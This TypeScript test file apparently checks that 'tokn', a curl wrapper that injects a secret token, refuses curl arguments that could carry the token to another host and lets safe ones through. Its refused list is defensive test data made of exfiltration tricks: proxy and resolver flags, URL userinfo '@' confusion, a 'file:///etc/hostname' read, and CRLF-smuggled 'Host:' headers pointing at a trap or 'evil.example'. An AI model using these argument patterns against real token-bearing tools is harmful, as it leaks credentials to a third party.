import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { leadToTrap, runAtTrap } from '../support/curl-sweep.ts'
import { openCurlWorld, type CurlWorld, type Place } from '../support/curl-world.ts'
import { requirePart } from '../support/parts.ts'

/** `$API` is the API's address, `$TRAP` another one's. All of them are refused. */
const refused: ReadonlyArray<readonly string[]> = [
  ['$API/', '-s', '--', '-d@$TRAP/'],
  ['$API/', '-s', '--', '$TRAP/'],
  ['$API/', '-s', '--', 'http://$TRAP/'],
  ['$API/', '-s', '--', '--max-time', '5'],
  ['--data', '--', '$API/', '$TRAP/'],
  ['$API/', '--url=http://$TRAP/'],
  ['$API@$TRAP/'],
  ['http://127.0.0.1:80@$TRAP/'],
  ['http://user:password@$HOST/'],
  ['$API\\@$TRAP/', '--no-fail', '--next', 'http://$TRAP/'],
  ['http:/\\$TRAP/'],
  ['http://$TRAP/?$API', '-s'],
  ['//$TRAP/', '-s'],
  ['file:///etc/hostname'],
  ['-xhttp://$TRAP', '$API/'],
  ['-sSx', 'http://$TRAP', '$API/'],
  ['--prox', 'http://$TRAP', '$API/'],
  ['--socks5-hostname', '$TRAP', '$API/'],
  ['--preproxy', 'socks5://$TRAP', '$API/'],
  ['--proxy-header', 'a: b', '-p', '$API/'],
  ['--connect-to', '::$TRAP', '$API/'],
  ['--resolve', '127.0.0.1:80:127.0.0.2', '$API/'],
  ['--alt-svc', 'file', '$API/'],
  ['--doh-url', 'https://$TRAP/', '$API/'],
  ['--unix-socket', 'socket', '$API/'],
  ['--proto-default', 'http', '$TRAP/'],
  ['--request-target', 'http://$TRAP/', '$API/'],
  ['-H', 'Host: $TRAP', '$API/'],
  ['-H', 'host:evil.example', '$API/'],
  ['-H', 'X: y\r\nHost: $TRAP', '$API/'],
  ['-A', 'me\r\nHost: $TRAP', '$API/'],
  ['-e', 'http://a/\nHost: $TRAP', '$API/'],
  ['-X', 'GET http://$TRAP/ HTTP/1.1\r\nX:', '$API/'],
  ['-H', '@/nowhere', '$API/'],
  ['-H', '@-', '$API/'],
  ['-K', '-', '$API/'],
  ['-K', 'file', '$API/'],
  ['--variable', 'a=http://$TRAP/', '--expand-url', '{{a}}', '$API/'],
  ['--libcurl', '-', '$API/'],
  ['--trace', '-', '$API/'],
  ['--trace-ascii', '%', '$API/'],
  ['-sv', '$API/'],
  ['--xattr', '-o', 'file', '$API/'],
  ['-w', '@-', '$API/'],
  ['-w', '%{nothing_known}', '$API/'],
]

/** Refused where the token is in the address, which these print. */
const printing: ReadonlyArray<readonly string[]> = [
  ...['%{url_effective}', '%{JSON}', '\\%%{url}', '%{http_code}%{redirect_url}'],
].map((format) => ['-s', '-w', format, '$API/'])

/** Taken, with everything around that could lead astray; nothing of it does. */
const taken: ReadonlyArray<readonly string[]> = [
  ['-s', '$API/'],
  ['-sO', '$API/name'],
  ['-s', '--remote-name-all', '$API/a', '$API/b'],
  ['-s', '-o', '#1', '$API/{a,b}'],
  ['-s', '-T', '{a,b}', '$API/'],
  ['-s', '$API/redirect/http%3A%2F%2F$TRAP%2F', '-e', 'http://$TRAP/;auto'],
  ['-s', '-d', '@http://$TRAP/', '$API/'],
  ['-s', '-G', '-d', '@$TRAP', '-d', '#http://$TRAP/', '$API/'],
  ['-s', '--url-query', '+a=b@$TRAP', '$API/?x#http://$TRAP/'],
  ['-s', '--data', '--next http://$TRAP/', '$API/'],
  ['-s', '-b', 'http://$TRAP/', '-c', 'jar', '$API/cookie'],
  ['-s', '-D', 'head', '-i', '$API/'],
  ['-s', '--stderr', 'errors', '--fail', '$API/status/500', '$API/status/401'],
  ['-s', '-Z', '-o', 'a', '$API/a', '-o', 'b', '$API/b'],
  ['--interface', '$TRAP', '$API/'],
  ['-s', '--etag-save', 'tag', '--etag-compare', 'http://$TRAP/', '$API/'],
  ['-s', '-w', '%{http_code} %{remote_ip} %{errormsg} %{filename_effective} %{certs}', '$API/x'],
  [
    '-s',
    '-w',
    '%{header_json} %header{etag} %{method} %{scheme} %{urlnum} %{num_headers}',
    '$API/',
  ],
  ['--retry', '1', '--retry-delay', '1', '$API/retry'],
  ['-s', '--max-time', '0.2', '$API/slow'],
  ['-s', '--http2-prior-knowledge', '--max-time', '1', '$API/'],
  ['-sS', 'http://127.0.0.1:$PORT/%20/..//a|b^c?q=`"<>'],
  ['-s', 'http://2130706433:$PORT/', 'http://0x7f.1:$PORT/', 'HTTP://127.1:$PORT/'],
]

/** Many processes, one after the other: on a busy machine they take their time, in milliseconds. */
const patience = 120_000

describe.skipIf(!requirePart('curl') || !requirePart('linux'))('a token of tokn curl', () => {
  let world: CurlWorld
  let env: Record<string, string>
  beforeAll(async () => {
    world = await openCurlWorld()
    env = leadToTrap(world)
  })
  afterAll(() => world.close())

  const fill = (words: readonly string[]) => {
    const port = new URL(world.api.origin).port
    return words.map((word) =>
      word
        .replaceAll('$API', world.api.origin)
        .replaceAll('$HOST', `127.0.0.1:${port}`)
        .replaceAll('$PORT', port)
        .replaceAll('$TRAP', world.trap.place),
    )
  }
  const places = (words: readonly string[]): readonly Place[] => {
    const turn: readonly Place[] = ['quer', 'head', 'bear', 'cook']
    return [turn[words.join('').length % turn.length] ?? 'quer']
  }

  test(
    'goes nowhere for what is refused, and no request is made',
    { timeout: patience },
    async () => {
      for (const words of refused) {
        for (const place of places(words)) {
          const { ended, wrong } = await runAtTrap(world, place, fill(words), env)
          expect({ words, ...ended }).toMatchObject({ words, status: 2, out: '' })
          expect(ended.err).toMatch(/^tokn: error: .+\n(tokn: hint: .+\n)?$/)
          expect(wrong).toEqual([])
        }
      }
      expect(world.api.seen).toEqual([])
    },
  )

  test(
    'is not printed by a format, where it is in the address',
    { timeout: patience },
    async () => {
      for (const words of printing) {
        const { ended, wrong } = await runAtTrap(world, 'quer', fill(words), env)
        expect({ words, ...ended }).toMatchObject({ words, status: 2, out: '' })
        expect(wrong).toEqual([])
      }
      expect(world.api.seen).toEqual([])
    },
  )

  test('goes to the API alone for what is taken', { timeout: patience }, async () => {
    for (const words of taken) {
      const { ended, wrong } = await runAtTrap(world, 'quer', fill(words), env)
      expect(ended.err).not.toContain('tokn: error')
      expect({ words, wrong }).toEqual({ words, wrong: [] })
    }
    expect(world.api.seen.length).toBeGreaterThan(taken.length)
    expect(world.api.seen.filter(({ target }) => !target.includes(world.token))).toEqual([])
    expect(world.trap.text()).toBe('')
  })
})
